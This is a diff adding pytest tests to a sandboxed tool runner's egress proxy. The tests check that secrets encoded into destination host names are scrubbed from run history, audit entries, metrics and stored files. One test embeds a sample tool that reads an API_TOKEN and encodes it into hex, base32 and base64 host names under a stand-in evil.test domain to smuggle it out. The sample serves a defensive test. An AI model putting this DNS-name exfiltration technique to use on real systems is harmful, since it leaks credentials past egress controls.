@@ -5,6 +5,7 @@ No traffic goes to any other address.
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import shutil
@@ -31,6 +32,8 @@ from egress_lab import (
     history,
     run_ok,
 )
+from runnerd.egress import parse
+from runnerd.run.proxy import MAX_DESTINATION_CHARS, MAX_FIGURES, EgressPass
 
 pytestmark = pytest.mark.jail
 
@@ -126,6 +129,153 @@ def test_a_secret_goes_to_the_granted_host_and_nowhere_else(
                 assert needle not in data, f"{needle!r} in {path}"
 
 
+HOSTILE_SECRET = "Zq7Kx2Wm9Rt4Vb8N"
+# The secret spelled into host names (lower case, letters and digits): each one is a
+# spelling the Scrubber knows (docs/SECURITY.md lists them).
+NAME_SPELLINGS = {
+    "as is": "value.lower()",
+    "reversed": "value[::-1].lower()",
+    "hex": "raw.hex()",
+    "base32": "base64.b32encode(raw).decode().rstrip('=').lower()",
+    "base64": "base64.b64encode(raw).decode().rstrip('=').lower()",
+    "base64 after 1 byte": "base64.b64encode(b'x' + raw).decode().rstrip('=').lower()",
+}
+HOSTILE_PY = """\
+import base64, os, urllib.request
+
+SPELLINGS = {spellings!r}
+
+
+def run(input):
+    value = os.environ["API_TOKEN"]
+    raw = value.encode()
+    percent = "".join("%%%02X" % c for c in raw)
+    urls = []
+    for expr in SPELLINGS:
+        name = eval(expr)
+        urls += [f"http://{{name}}.api.test:{port}/reached", f"http://{{name}}.evil.test/refused"]
+    # Not host names: refused as bad requests, the name quoted back to the tool.
+    urls += [f"http://{{t}}.evil.test/" for t in (percent, percent.lower(), value)]
+    seen = []
+    for url in urls:
+        try:
+            urllib.request.urlopen(url, timeout=10).read()
+            seen.append("reached")
+        except Exception as exc:
+            seen.append(f"{{exc}} {{getattr(exc, 'reason', '')}}")
+    raise RuntimeError(" | ".join(seen))
+"""
+
+
+def _hostile_spellings() -> list[str]:
+    value, raw = HOSTILE_SECRET, HOSTILE_SECRET.encode()
+    names = [eval(expr, {"base64": base64}, {"value": value, "raw": raw}) for expr in
+             NAME_SPELLINGS.values()]  # fmt: skip
+    percent = "".join(f"%{c:02X}" for c in raw)
+    return [*names, percent, percent.lower(), value, value.upper()]
+
+
+def test_a_secret_spelled_into_destination_names_is_scrubbed_everywhere(
+    daemon: Daemon, lab: EgressLab, tmp_path: Path
+) -> None:
+    """Under a wildcard entry the tool chooses the name it reaches, and any name it is
+    refused: neither the run history (which viewers read), nor the audit, nor any byte
+    under the data dir (database, WAL, log) holds a spelling of its secret."""
+    spellings = _hostile_spellings()
+    with lab.hosts_file.open("a") as hosts:  # the names under *.api.test reach the lab
+        for name in spellings[: len(NAME_SPELLINGS)]:
+            hosts.write(f"{lab.server_ip} {name}.api.test\n")
+    source = HOSTILE_PY.format(spellings=list(NAME_SPELLINGS.values()), port=HTTP_PORT)
+    root = app_dir(tmp_path / "hostile", "hostile-names", [f"*.api.test:{HTTP_PORT}"],
+                   {"spell": (".py", source)})  # fmt: skip
+    install = daemon.ship(root)["installId"]
+    put = daemon.call(
+        "PUT",
+        f"/api/v2/apps/installs/{install}/secrets/API_TOKEN",
+        daemon.admin_key,
+        json={"value": HOSTILE_SECRET},
+    )
+    assert put.status_code == 200, put.text
+    result = run_ok(daemon, install, "spell", {})
+
+    def clean(text: str, where: str) -> None:
+        for spelled in spellings:
+            assert spelled.lower() not in text.lower(), f"{spelled!r} in {where}: {text}"
+
+    # The caller's error quotes every refusal: scrubbed.
+    assert result["status"] == "failed" and "[secret]" in result["error"], result["error"]
+    assert result["error"].count("reached") == len(NAME_SPELLINGS), result["error"]
+    clean(result["error"], "the error")
+
+    viewer = daemon.person("names-viewer@example.com", role="viewer")
+    runs = daemon.call("GET", f"/api/v2/apps/installs/{install}/runs", viewer)
+    assert runs.status_code == 200, runs.text
+    [row] = [r for r in runs.json()["data"] if r["runId"] == result["runId"]]
+    member = daemon.person("names-member@example.com", role="member")  # not the caller
+    detail = daemon.call("GET", f"/api/v2/runs/{result['runId']}", member)
+    assert detail.status_code == 200 and detail.json()["run"]["egress"] == row["egress"]
+    assert detail.json().get("error") is None  # the error is the caller's
+    clean(json.dumps(row), "the run history")
+    reached = [u for u in row["egress"] if u["connections"]]
+    refused = [u for u in row["egress"] if u.get("refused")]
+    assert sum(u["connections"] for u in reached) == len(NAME_SPELLINGS)
+    assert all(u["destination"].endswith(f".api.test:{HTTP_PORT}") for u in reached)
+    assert all(u["destination"].endswith(".evil.test:80") for u in refused)
+    assert all("[secret]" in u["destination"] for u in row["egress"]), row["egress"]
+
+    audit = daemon.call(
+        "GET", "/api/v2/audit", daemon.admin_key, params={"workspaceId": daemon.workspace_id}
+    ).json()["data"]
+    [entry] = [e for e in audit if e["detail"].get("runId") == result["runId"]]
+    clean(json.dumps(entry), "the audit entry")
+    egress = entry["detail"]["egress"]
+    assert [g["entry"] for g in egress["granted"]] == [f"*.api.test:{HTTP_PORT}"]
+    assert egress["granted"][0]["connections"] == len(NAME_SPELLINGS)
+    assert egress["refused"] == {"not granted": len(NAME_SPELLINGS) + 1}  # + the value as is
+
+    metrics = daemon.call("GET", "/metrics", daemon.admin_key)
+    assert metrics.status_code == 200
+    clean(metrics.text, "the metrics")
+
+    for path in daemon.data_dir.rglob("*"):
+        if path.is_file():
+            data = path.read_bytes().lower()
+            for spelled in spellings:
+                assert spelled.lower().encode() not in data, f"{spelled!r} in {path}"
+
+
+def test_a_runs_destination_names_are_bounded_in_size_and_number() -> None:
+    granted = EgressPass(token="t", grant=(parse("*.example.com:443"),))
+    granted.use("x" * 5000 + "\x1b[31m.example.com:443").connections += 1
+    for n in range(3 * MAX_FIGURES):
+        granted.use(f"n{n}.example.com:443").refused = "not granted"
+    figures = granted.figures()
+    assert len(figures) == MAX_FIGURES + 1 and figures[-1]["destination"] == "other"
+    assert all(len(f["destination"]) <= MAX_DESTINATION_CHARS for f in figures)
+    assert all(f["destination"].isprintable() and "\x1b" not in f["destination"] for f in figures)
+
+
+def test_the_audit_summary_of_a_run_names_grant_entries_and_reasons_only() -> None:
+    granted = EgressPass(token="t", grant=(parse("*.example.com:443"), parse("api.test:8080")))
+    for name in ("secret-one.example.com:443", "secret-two.example.com:443"):
+        use = granted.use(name)
+        use.connections, use.sent, use.received = 1, 10, 20
+    granted.use("api.test:8080").connections += 1
+    for _ in range(3):
+        granted.use("spelled-secret.evil.test:443").refused = "not granted"
+    granted.use("secret-one.example.com:443").refused = "private address"
+    granted.use("elsewhere.test:443").refused = "a reason of a tool's choosing"
+    granted.capped = "bytes"
+    assert granted.summary() == {
+        "granted": [
+            {"entry": "*.example.com:443", "connections": 2, "bytesSent": 20, "bytesReceived": 40},
+            {"entry": "api.test:8080", "connections": 1, "bytesSent": 0, "bytesReceived": 0},
+        ],
+        "refused": {"not granted": 3, "private address": 1, "other": 1},
+        "capped": "bytes",
+    }
+
+
 def test_the_history_and_audit_show_what_a_run_reached(
     daemon: Daemon, caller: str, lab: EgressLab
 ) -> None:
@@ -135,9 +285,20 @@ def test_the_history_and_audit_show_what_a_run_reached(
         "GET", "/api/v2/audit", daemon.admin_key, params={"workspaceId": daemon.workspace_id}
     ).json()["data"]
     entry = next(e for e in audit if e["detail"].get("runId") == result["runId"])
-    [use] = entry["detail"]["egress"]
+    [use] = history(daemon, caller, result["runId"])["egress"]
     assert use["destination"] == f"api.test:{HTTP_PORT}"
-    assert use == history(daemon, caller, result["runId"])["egress"][0]
+    # The audit keeps counts per grant entry and per refusal reason, never a destination.
+    assert entry["detail"]["egress"] == {
+        "granted": [
+            {
+                "entry": f"api.test:{HTTP_PORT}",
+                "connections": 1,
+                "bytesSent": use["bytesSent"],
+                "bytesReceived": use["bytesReceived"],
+            }
+        ],
+        "refused": {},
+    }
 
     listed = run_cli("runs", "list", "--app", "caller", "--tool", "fetch_py",
                      env=daemon.client_env())  # fmt: skip
@@ -171,7 +332,7 @@ def test_a_refused_destination_fails_the_run_with_the_reason(
 
 def test_the_daemons_own_port_is_refused(daemon: Daemon, caller: str) -> None:
     for tool in ("fetch_py", "fetch_js"):
-        result = run_ok(daemon, caller, tool, {"url": f"http://127.0.0.1:{daemon.port}/healthz"})
+        result = run_ok(daemon, caller, tool, {"url": f"http://loop.test:{daemon.port}/healthz"})
         assert result["status"] == "failed"
         assert "(private address)" in result["error"] and "loopback" in result["error"]
 
@@ -323,3 +484,15 @@ def test_node_24_fetch_goes_through_the_proxy_too(
             }
     finally:
         shutil.rmtree(target, ignore_errors=True)
+
+
+def test_every_refusal_reason_the_proxy_records_is_one_the_api_names() -> None:
+    """A run's history shows each reason the proxy can record (else it would drop it)."""
+    import typing
+
+    from runnerd.api.wire import EgressUse
+    from runnerd.run import proxy
+
+    hint = typing.get_type_hints(EgressUse)["refused"]
+    (literal, _none) = typing.get_args(hint)
+    assert set(typing.get_args(literal)) == set(proxy._REASONS)
